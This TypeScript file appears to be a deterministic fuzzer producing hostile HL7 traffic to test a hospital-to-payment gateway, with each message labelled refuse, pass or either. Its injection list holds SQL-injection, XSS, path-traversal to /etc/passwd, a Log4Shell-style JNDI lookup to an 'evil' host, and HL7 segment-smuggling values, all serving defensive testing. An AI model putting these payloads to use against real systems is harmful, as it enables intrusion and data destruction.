/**
 * Hostile traffic for the hospital side (`tally sim his --hostile N`): a
 * deterministic stream (from a seed) of malformed HL7, oversized messages,
 * unknown types, declared types with wrong fields, injection in every text
 * field, framing attacks, and bursts of valid messages past the rate limit.
 * Each message says what the gateway must do with it: refuse, pass, or
 * either (a burst may be rate-limited; an injection the schema admits is only
 * data). The payment-side check does not trust these labels alone: whatever
 * reaches the payment broker must conform to its declaration.
 */
import { escapeHl7, hl7DateTime } from '../../codecs/hl7/hl7.js';
import { chargeMessage, orderMessage, patientNo, registrationMessage, type HisPatient } from './hisMessages.js';
import { frame, type Expectation, type HisMessage } from './HisSimulator.js';

/** xorshift32: small, fast, deterministic */
export function rng(seed: number): () => number {
  let x = seed >>> 0 || 0x9e3779b9;
  return () => {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    return x / 0x100000000;
  };
}

export const INJECTIONS = [
  "'; DROP TABLE archive;--",
  '" OR 1=1 --',
  '<script>alert(1)</script>',
  '{"$ne":null}',
  '","type":"charge.posted","x":"',
  '../../../../etc/passwd',
  '${jndi:ldap://evil/a}',
  '%s%s%n%x',
  'tally/gw/v1/#',
  '+/#',
  '\\X0D\\MSH|^~\\&|EVIL',
  '\\.br\\',
  '\u202egnp.exe',
  '\u0000NUL',
  '\u001b[2J',
  'A'.repeat(3000),
  '王'.repeat(100),
  '\r\nMSH|^~\\&|EVIL|X|||||ADT^A04|E1|P|2.5.1',
  'Robert\'); DELETE FROM crossing; --',
  '&amp;|^~\\',
];

const UNKNOWN_TYPES = ['ADT^A08', 'ADT^A03', 'ORU^R01', 'MDM^T02', 'SIU^S12', 'QRY^A19', 'ZZZ^Z01', 'ACK^A04', 'ADT^A40', 'BAR^P01'];

type Field = 'id' | 'familyName' | 'givenName' | 'birthDate' | 'department' | 'orderId' | 'procedureText' | 'procedureCode' | 'transactionId' | 'chargeCode' | 'amount' | 'facility' | 'controlIdText';
const TEXT_FIELDS: Field[] = ['id', 'familyName', 'givenName', 'birthDate', 'department', 'orderId', 'procedureText', 'procedureCode', 'transactionId', 'chargeCode', 'amount', 'facility', 'controlIdText'];

const enc = (s: string): Uint8Array => new TextEncoder().encode(s);

function withField(n: number, controlId: string, time: number, field: Field, value: string): Uint8Array {
  const p: HisPatient = { ...patientNo(n), ...(field === 'id' ? { id: value } : {}), ...(field === 'familyName' ? { familyName: value } : {}), ...(field === 'givenName' ? { givenName: value } : {}), ...(field === 'birthDate' ? { birthDate: value } : {}) };
  const department = field === 'department' ? value : 'OPH';
  const h = { subsystem: 'registration' as const, facility: field === 'facility' ? value : 'HOSP1', controlId: field === 'controlIdText' ? value : controlId, time };
  if (field === 'orderId' || field === 'procedureText' || field === 'procedureCode') {
    return orderMessage(h, 'ORM^O01', p, department, field === 'orderId' ? value : `O${n}`, { code: field === 'procedureCode' ? value : 'OCT01', text: field === 'procedureText' ? value : 'OCT' });
  }
  if (field === 'transactionId' || field === 'chargeCode' || field === 'amount') {
    return chargeMessage({ ...h, subsystem: 'charging' }, p, department, { transactionId: field === 'transactionId' ? value : `T${n}`, code: field === 'chargeCode' ? value : 'OCT01', quantity: 1, amount: field === 'amount' ? value : '1.00' });
  }
  return registrationMessage(h, p, department, hl7DateTime(time).slice(0, 8));
}

/** One hostile message number n (deterministic for a seed) */
export function hostileMessage(n: number, random: () => number, time: number, prefix = 'F'): HisMessage {
  const controlId = `${prefix}${n}`;
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  const valid = (): Uint8Array => registrationMessage({ subsystem: random() < 0.5 ? 'registration' : 'self-service', facility: 'HOSP1', controlId, time }, patientNo(n), pick(['OPH', 'ENT', 'RAD']), hl7DateTime(time).slice(0, 8));
  const m = (wire: Uint8Array, expect: Expectation, kind: string, answers = 1): HisMessage => ({ wire, controlId, expect, answers, kind });
  const r = random();
  if (r < 0.08) return m(frame(valid()), 'either', 'burst-valid');
  if (r < 0.2) {
    // malformed HL7: random bytes, truncations, flipped bytes
    const base = valid();
    const how = random();
    if (how < 0.3) {
      const bytes = new Uint8Array(1 + Math.floor(random() * 400));
      for (let i = 0; i < bytes.length; i++) {
        let b = Math.floor(random() * 256);
        if (b === 0x0b || b === 0x1c) b = 0x41;
        bytes[i] = b;
      }
      return m(frame(bytes), 'refuse', 'random-bytes');
    }
    if (how < 0.6) return m(frame(base.subarray(0, Math.floor(random() * base.length))), 'either', 'truncated');
    const bytes = base.slice();
    for (let k = 0; k < 1 + Math.floor(random() * 4); k++) {
      let b = Math.floor(random() * 256);
      if (b === 0x0b || b === 0x1c) b = 0x42;
      bytes[Math.floor(random() * bytes.length)] = b;
    }
    return m(frame(bytes), 'either', 'flipped');
  }
  if (r < 0.28) {
    // oversized: padded past the declared limit (and now and then past the frame limit)
    const huge = random() < 0.002;
    const pad = 'Z'.repeat(huge ? 1_100_000 : 8_200 + Math.floor(random() * 20_000));
    const text = new TextDecoder().decode(valid()) + `\rZPD|${pad}`;
    return m(frame(enc(text)), 'refuse', huge ? 'oversized-frame' : 'oversized');
  }
  if (r < 0.38) {
    const type = pick(UNKNOWN_TYPES);
    const text = `MSH|^~\\&|REG|HOSP1|TALLYGW|PAYMENT|${hl7DateTime(time)}||${type}|${controlId}|P|2.5.1\rPID|1||P${n}^^^HOSP^MR||Wang^Wei||19800101|M`;
    return m(frame(enc(text)), 'refuse', 'unknown-type');
  }
  if (r < 0.52) {
    // declared types, wrong fields
    const broken: [Field, string][] = [
      ['birthDate', '19801340'],
      ['birthDate', 'yesterday'],
      ['department', ''],
      ['department', 'oph'],
      ['id', ''],
      ['amount', '-5'],
      ['amount', '1e9'],
      ['amount', '12.345'],
    ];
    const [field, value] = pick(broken);
    if (random() < 0.2) {
      // a required segment missing
      const segment = pick(['PID', 'PV1']);
      const text = new TextDecoder().decode(valid()).split('\r').filter((s) => !s.startsWith(segment)).join('\r');
      return m(frame(enc(text)), 'refuse', 'missing-segment');
    }
    return m(frame(withField(n, controlId, time, field, value)), 'refuse', `wrong-${field}`);
  }
  if (r < 0.8) {
    // injection in every text field, in turn; some are only data that the schema admits
    const field = TEXT_FIELDS[n % TEXT_FIELDS.length]!;
    const value = pick(INJECTIONS);
    // raw: separators and CR as they are (segment or field injection); escaped: they arrive as data
    const raw = random() < 0.5;
    const text = raw ? value : escapeHl7(value);
    // free text and names admit some of these once escaped (a NUL escapes to a space): only data then
    const expect: Expectation = field === 'procedureText' || field === 'familyName' || field === 'givenName' ? 'either' : 'refuse';
    return m(frame(withField(n, controlId, time, field, text)), expect, `inject-${field}${raw ? '-raw' : ''}`);
  }
  if (r < 0.9) {
    // framing attacks
    const how = random();
    if (how < 0.4) return m(new Uint8Array([...enc(pick(['GET / HTTP/1.1\r\n\r\n', 'SSH-2.0-x\r\n', '\u0016\u0003\u0001', 'x'])), ...frame(valid())]), 'either', 'garbage-then-frame', 2);
    if (how < 0.7) return m(frame(enc('')), 'refuse', 'empty-frame');
    // an end marker without CR inside the message: it is data, so the message is broken
    const text = new TextDecoder().decode(valid());
    // never just before a CR: 0x1C 0x0D would end the frame there
    let cut = Math.floor(random() * text.length);
    while (text.charAt(cut) === '\r') cut += 1;
    return m(frame(new Uint8Array([...enc(text.slice(0, cut)), 0x1c, ...enc(text.slice(cut))])), 'refuse', 'stray-end-byte');
  }
  // declared types with every segment repeated past the budget, and separators redefined
  if (random() < 0.5) {
    const text = new TextDecoder().decode(valid()) + '\rNTE|1||x'.repeat(80);
    return m(frame(enc(text)), 'refuse', 'too-many-segments');
  }
  const text = new TextDecoder().decode(valid()).replace(/^MSH\|\^~\\&/, 'MSH#!@$%').replace(/\|/g, '#');
  // other separators are legal HL7; the gateway re-encodes canonically either way
  return m(frame(enc(text)), 'either', 'other-separators');
}

export function* hostileTraffic(count: number, seed: number, time: number = Date.now(), prefix = 'F'): Generator<HisMessage> {
  const random = rng(seed);
  for (let n = 0; n < count; n++) yield hostileMessage(n, random, time, prefix);
}

